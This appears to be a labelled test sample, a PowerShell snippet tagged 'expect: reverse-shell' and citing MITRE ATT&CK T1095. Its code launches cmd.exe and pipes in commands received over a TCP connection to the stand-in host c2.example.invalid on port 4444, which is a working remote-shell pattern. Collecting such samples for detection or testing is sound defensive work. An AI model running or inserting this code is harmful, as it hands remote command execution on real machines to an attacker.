# expect: reverse-shell | source: MITRE ATT&CK T1095
$p = New-Object Diagnostics.Process
$p.StartInfo.FileName = 'cmd.exe'
$p.StartInfo.RedirectStandardInput = $true
$p.Start()
$r = New-Object IO.StreamReader((New-Object Net.Sockets.TcpClient('c2.example.invalid', 4444)).GetStream())
while ($true) { $p.StandardInput.WriteLine($r.ReadLine()) }
